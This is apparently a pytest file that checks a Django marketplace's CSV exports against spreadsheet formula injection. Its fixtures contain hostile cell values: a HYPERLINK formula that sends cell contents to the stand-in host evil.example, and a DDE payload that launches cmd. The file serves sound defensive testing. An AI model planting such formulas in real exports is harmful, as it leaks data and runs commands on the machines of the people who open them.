"""CSV formula injection (#13 §1.3, decisions "CSV cells that start like a formula"): every
CSV the product writes quotes a text cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return, so a spreadsheet shows it as text; numbers written by our code stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from marketplace.csvsafe import safe_cell
from tests.factories.accounts import AgencyFactory, UserFactory, log_in_verified

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


@pytest.mark.parametrize("value", [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                                   "\t=1+1", "\r=1+1"])
def test_text_that_starts_like_a_formula_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["重庆测试咨询有限公司", "A级", "", "1=1", "a-b"])
def test_ordinary_text_is_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-12, Decimal("-12.5"), -0.5, None, True])
def test_numbers_written_by_the_code_are_not_escaped(value):
    assert safe_cell(value) is value


def read_csv(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(raw)))


def test_the_open_data_credit_csv_quotes_a_hostile_organization_name(api_client):
    agency = AgencyFactory(name=HOSTILE, credit_score=Decimal("-12.50"))
    rows = read_csv(api_client.get("/api/v1/open-data/credit.csv"))
    row = next(r for r in rows[1:] if r[0] == str(agency.pk))
    assert row[1] == "'" + HOSTILE
    assert row[4] == "-12.50"  # the score is a number: not escaped


def test_the_console_spreadsheet_exports_quote_a_hostile_page_title(client):
    """Wagtail's reports export CSV too (here the aging pages report, page titles)."""
    from tests.factories.cms import help_page, home

    help_page(home(), title=HOSTILE, slug="hostile")
    log_in_verified(client, UserFactory(is_staff=True, is_superuser=True))
    response = client.get("/console/reports/aging-pages/?export=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    titles = [row[0] for row in read_csv(response)[1:]]
    assert "'" + HOSTILE in titles and HOSTILE not in titles
